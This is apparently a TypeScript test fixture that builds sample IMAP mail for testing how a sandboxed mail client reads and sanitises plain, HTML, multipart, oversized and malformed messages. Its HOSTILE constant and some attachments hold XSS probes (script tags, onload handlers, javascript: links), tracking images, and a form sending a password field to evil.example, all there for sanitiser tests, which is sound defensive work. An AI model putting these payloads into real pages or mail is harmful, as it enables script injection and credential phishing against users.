/** Mail for the tests of reading: hostile, large, broken and ordinary. */
import type { NewMessage } from '../../../sandbox/outlook/imap/wire';

const at = (minute: number) => new Date(Date.UTC(2026, 2, 1, 10, minute));

interface Headers {
  subject: string;
  from?: string;
  to?: string;
  id?: string;
  inReplyTo?: string;
}

const crlf = (text: string) => text.replace(/\r?\n/g, '\r\n');

function head({ subject, from = 'Olena Koval <olena@partner.example>', to, id, inReplyTo }: Headers): string {
  return [
    `From: ${from}`,
    `To: ${to ?? 'Alice Kovalenko <alice@contoso.onmicrosoft.com>'}`,
    `Subject: ${subject}`,
    `Date: Sun, 01 Mar 2026 10:00:00 +0000`,
    `Message-ID: ${id ?? `<${subject.replace(/\W+/g, '-')}@partner.example>`}`,
    ...(inReplyTo ? [`In-Reply-To: ${inReplyTo}`, `References: ${inReplyTo}`] : []),
    'MIME-Version: 1.0',
  ].join('\r\n');
}

/** A message of one text part. */
export function plain(headers: Headers, text: string, minute: number, flags: string[] = []): NewMessage {
  const raw = `${head(headers)}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n${crlf(text)}\r\n`;
  return { raw, flags, internalDate: at(minute) };
}

export function html(headers: Headers, content: string, minute: number): NewMessage {
  return {
    raw: `${head(headers)}\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${crlf(content)}\r\n`,
    internalDate: at(minute),
  };
}

interface Part {
  type: string;
  body: string;
  headers?: string[];
}

/** A message of several parts, base64 where `body` is not text. */
export function multipart(headers: Headers, subtype: string, parts: Part[], minute: number): NewMessage {
  const lines = parts.map(({ type, body, headers: more = [] }) =>
    ['--part', `Content-Type: ${type}`, ...more, '', body].join('\r\n'),
  );
  const type = `Content-Type: multipart/${subtype}; boundary=part`;
  return { raw: [head(headers), type, '', ...lines, '--part--', ''].join('\r\n'), internalDate: at(minute) };
}

/** A one-pixel image. */
export const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

export const base64 = (bytes: Buffer): string => bytes.toString('base64').replace(/.{76}/g, '$&\r\n');

/** Bytes that repeat nowhere, so that a lost or doubled piece shows. */
export function largeFile(size: number): Buffer {
  const bytes = Buffer.alloc(size);
  for (let i = 0; i + 4 <= size; i += 4) bytes.writeUInt32LE(Math.imul(i, 2654435761) >>> 0, i);
  return bytes;
}

export const HOSTILE =
  '<html><body onload="alert(1)"><style>*{background:url(https://evil.example/css)}</style><script>alert(2)</script>' +
  '<p style="color:#333;background:url(https://evil.example/bg)">Hello <b>Alice</b></p>' +
  '<img src="cid:logo@partner"><img src="http://tracker.example/pixel.gif" alt="Banner"><img src="cid:fake@partner">' +
  '<a href="javascript:alert(3)">one</a> <a href="https://partner.example/offer">two</a>' +
  '<form action="https://evil.example"><input name="password"></form></body></html>';

const picture = (cid: string, bytes: Buffer) => ({
  type: 'image/png',
  headers: ['Content-Transfer-Encoding: base64', `Content-ID: <${cid}>`, 'Content-Disposition: inline; filename=i.png'],
  body: base64(bytes),
});

/** Mail of which the html shows less than there is. */
export function hardToShow(): NewMessage[] {
  const page = '<p>See</p><img src="cid:small@partner"><img src="cid:big@partner"><td background="cid:back@partner">';
  const nothing = '<html><head><title>x</title></head><body>&nbsp;<br></body></html>';
  const deep = `<style>p{color:red}</style><script>x()</script>${'<b>\n'.repeat(30_000)}Deep &amp; dark`;
  return [
    multipart(
      { subject: 'Pictures' },
      'related',
      [
        { type: 'text/html; charset=utf-8', body: page },
        picture('small@partner', PNG),
        picture('big@partner', Buffer.concat([PNG, largeFile(1_600_000)])),
        picture('back@partner', Buffer.concat([PNG, PNG])),
      ],
      14,
    ),
    multipart(
      { subject: 'One id twice' },
      'related',
      [
        { type: 'text/html; charset=utf-8', body: '<p>See</p><img src="cid:twice@partner">' },
        picture('twice@partner', PNG),
        picture('twice@partner', Buffer.concat([PNG, PNG])),
      ],
      17,
    ),
    multipart(
      { subject: 'Empty html' },
      'alternative',
      [
        { type: 'text/plain; charset=utf-8', body: 'Only here.' },
        { type: 'text/html; charset=utf-8', body: nothing },
      ],
      15,
    ),
    html({ subject: 'Too deep' }, deep, 16),
  ];
}

export const LARGE = largeFile(10 * 1024 * 1024);

/** What lies in the mailboxes of Alice and of Bob when the tests start. */
export function seed(): { alices: Record<string, NewMessage[]>; bobs: NewMessage[] } {
  const offer = '<offer@partner.example>';
  const twins = Array.from({ length: 7 }, (_, i) =>
    plain({ subject: `Twin ${i}`, from: `t${i}@partner.example` }, 'same minute', 5),
  );
  const file = (name: string, type: string, bytes: Buffer) => ({
    type,
    headers: ['Content-Transfer-Encoding: base64', `Content-Disposition: attachment; ${name}`],
    body: base64(bytes),
  });
  const [alices, bobs]: [Record<string, NewMessage[]>, NewMessage[]] = [
    {
      INBOX: [
        plain({ subject: 'Offer', id: offer }, 'The 100% offer_price is in the file.\nРахунок додано.', 1, ['\\Seen']),
        plain(
          {
            subject: 'Re: Offer',
            inReplyTo: offer,
            from: 'Alice Kovalenko <alice@contoso.onmicrosoft.com>',
            id: '<re@contoso>',
          },
          'To myself too',
          2,
        ),
        ...twins,
        multipart(
          { subject: 'Hostile' },
          'related',
          [
            { type: 'text/html; charset=utf-8', body: HOSTILE },
            picture('logo@partner', PNG),
            picture('fake@partner', Buffer.from('<svg onload=alert(1)>')),
          ],
          10,
        ),
        multipart(
          { subject: 'Files' },
          'mixed',
          [
            { type: 'text/plain; charset=utf-8', body: 'See the files.' },
            file(
              `filename*=UTF-8''%D0%B7%D0%B2%D1%96%D1%82.html`,
              'text/html',
              Buffer.from('<script>alert(1)</script>'),
            ),
            file('filename="big.bin"', 'application/octet-stream', LARGE),
          ],
          11,
        ),
        html({ subject: 'Only html' }, '<h1>News</h1><p>Nothing <i>but</i> html</p>', 12),
        {
          raw: 'Subject: Broken\r\nContent-Type: multipart/mixed\r\n\r\nno boundary here\r\n',
          internalDate: new Date('2026-03-01T10:13:00Z'),
        },
      ],
      'Sent Items': [
        plain(
          {
            subject: 'Re: Offer',
            inReplyTo: offer,
            from: 'Alice Kovalenko <alice@contoso.onmicrosoft.com>',
            id: '<re@contoso>',
          },
          'To myself too',
          2,
          ['\\Seen'],
        ),
      ],
    },
    [plain({ subject: 'For Bob only', from: 'secret@bob.example' }, 'private words of Bob', 3)],
  ];
  return { alices, bobs };
}
